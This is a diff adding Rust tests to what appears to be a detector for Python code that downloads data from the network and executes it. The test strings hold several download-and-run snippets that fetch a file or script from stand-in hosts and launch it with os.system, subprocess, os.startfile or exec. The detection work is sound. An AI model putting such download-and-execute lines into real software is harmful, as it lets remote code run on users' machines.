@@ -206,3 +206,62 @@ fn rot13(s: &str) -> String {
         })
         .collect()
 }
+
+fn flows_of(src: &str) -> Vec<(String, &'static str)> {
+    analyse(src)
+        .flows
+        .into_iter()
+        .map(|f| (f.runner, f.kind))
+        .collect()
+}
+
+#[test]
+fn network_data_that_reaches_a_runner_is_a_flow() {
+    let cases: &[(&str, (&str, &str))] = &[
+        (
+            "import requests, subprocess, os\nr = requests.get('https://x.example/a.exe')\np = os.path.join(os.getenv('TEMP'), 'a.exe')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen([p])\n",
+            ("subprocess.Popen", "file"),
+        ),
+        (
+            "import urllib.request, os\ndata = urllib.request.urlopen(URL).read()\nopen('/tmp/x', 'wb').write(data)\nos.system('chmod +x /tmp/x && /tmp/x')\n",
+            ("os.system", "file"),
+        ),
+        (
+            "from urllib.request import urlretrieve\nimport os\ndef go():\n    path = 'C:/Users/Public/u.exe'\n    urlretrieve(URL, path)\n    os.startfile(path)\n",
+            ("os.startfile", "file"),
+        ),
+        (
+            "import os, requests\nout = os.path.expanduser('~/.cache/u')\nf = open(out, 'wb')\nf.write(requests.get(U).content)\nf.close()\nos.system(f'chmod +x {out}; {out} &')\n",
+            ("os.system", "file"),
+        ),
+        (
+            "import requests\nexec(requests.get('https://x.example/p.py').text)\n",
+            ("builtins.exec", "code"),
+        ),
+        (
+            "from urllib.request import urlopen\nimport threading\ng = {}\nthreading.Thread(target=exec, args=(urlopen(U).read(), g)).start()\n",
+            ("threading.Thread(target=exec)", "code"),
+        ),
+    ];
+    for (src, want) in cases {
+        let got = flows_of(src);
+        assert!(
+            got.iter().any(|(r, k)| r == want.0 && *k == want.1),
+            "{src}\n{got:?}"
+        );
+    }
+}
+
+#[test]
+fn downloads_that_are_never_run_are_not_flows() {
+    for src in [
+        // A build script fetching a source archive and extracting it.
+        "import urllib.request, tarfile, subprocess\ndata = urllib.request.urlopen(URL).read()\nopen('openblas.tar.gz', 'wb').write(data)\ntarfile.open('openblas.tar.gz').extractall('build')\nsubprocess.check_call(['make', '-C', 'build'])\n",
+        // An SDK posting and reading JSON.
+        "import requests\nr = requests.post(API, json=payload)\nresult = r.json()\nprint(result)\n",
+        // Running a local tool, unrelated to a download elsewhere.
+        "import subprocess, requests\nrequests.get(URL)\nsubprocess.run(['git', 'status'])\n",
+    ] {
+        assert_eq!(flows_of(src), vec![], "{src}");
+    }
+}
